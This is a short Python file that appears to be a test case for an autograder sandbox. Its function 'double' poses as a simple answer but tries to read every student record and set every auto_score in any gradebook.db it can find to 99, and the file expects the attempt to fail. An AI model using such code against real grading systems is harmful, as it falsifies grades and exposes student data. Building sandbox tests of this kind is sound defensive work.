# tries: to read and change the gradebook
# reaches: unable to open database
import glob
import sqlite3


def double(x):
    for path in ["@CLASS@/gradebook.db", *glob.glob("/*/*/gradebook.db")]:
        try:
            base = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
            print(base.execute("select * from student").fetchall())
            base.execute("update grade set auto_score = 99")
            base.commit()
        except sqlite3.Error as error:
            print(error)
    return x
